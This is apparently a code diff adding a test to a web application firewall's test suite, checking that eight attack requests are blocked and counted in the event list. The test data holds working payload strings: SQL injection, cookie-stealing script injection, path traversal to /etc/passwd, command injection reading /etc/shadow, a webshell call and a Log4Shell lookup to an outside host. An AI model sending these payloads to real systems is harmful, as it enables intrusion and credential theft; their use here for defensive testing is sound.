@@ -177,6 +177,46 @@ describe('the page', () => {
     receiver.close();
   });
 
+  test('many kinds of events from many sources stand in the list, each counted once', async () => {
+    // [path and query, user agent] as attackers send them; every third is only mirrored.
+    const kinds = [
+      ['/item?id=7%20UNION%20SELECT%20login,secret%20FROM%20accounts--', 'sqlmap/1.7'],
+      ['/search?q=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E', 'Mozilla/5.0'],
+      ['/download?file=../../../../etc/passwd', 'curl/8.5'],
+      ['/ping?host=127.0.0.1;cat%20/etc/shadow', 'python-requests/2.31'],
+      ['/.git/config', 'Go-http-client/1.1'],
+      ['/shell.php?cmd=id', 'Mozilla/5.0'],
+      ['/view?page=php://filter/convert.base64-encode/resource=index', 'Mozilla/5.0'],
+      ['/login?user=$%7Bjndi:ldap://203.0.113.9/a%7D', 'Mozilla/5.0'],
+    ];
+    const before = (await wafd.api('GET', '/events?limit=1000')).events.length;
+    const ids = new Set();
+    for (let n = 0; n < 48; n += 1) {
+      const [uri, agent] = kinds[(n * 5) % kinds.length];
+      const source = `198.51.100.${(n * n) % 9}`;
+      const host = n % 4 === 0 ? 'api.shop.example' : 'shop.example';
+      if (n % 3 === 2) {
+        const record = JSON.stringify({ method: 'GET', uri, src_ip: source, host, headers: [['Host', host], ['User-Agent', agent]] });
+        assert.equal((await request(`${wafd.http}/v1/records`, { method: 'POST', body: `${record}\n` })).status, 200);
+        continue;
+      }
+      const answer = await request(`${wafd.http}/check`, {
+        headers: { 'X-Forwarded-Method': 'GET', 'X-Forwarded-Proto': 'https', 'X-Forwarded-Host': host, 'X-Forwarded-Uri': uri, 'X-Forwarded-For': source, 'User-Agent': agent },
+      });
+      assert.equal(answer.status, 403, uri);
+      ids.add(answer.json().event_id);
+    }
+    assert.equal(ids.size, 32);
+    const { events } = await until('all of them', async () => {
+      const answer = await wafd.api('GET', '/events?limit=1000');
+      return answer.events.length === before + 48 && answer;
+    });
+    const actions = events.slice(0, 48).map(({ record }) => record.action);
+    assert.equal(actions.filter((action) => action === 'monitor').length, 16);
+    await open('');
+    await until('the list counts them', async () => (await hook('event-total').innerText()).includes(`${before + 48}`));
+  });
+
   const views = {
     events: '', detail: '?q=type:sqli', overview: '?view=overview', try: '?view=try', syslog: '?view=settings&section=syslog',
     'syslog-target': '?view=settings&section=syslog&target=new', sites: '?view=settings&section=sites', exceptions: '?view=settings&section=exceptions',
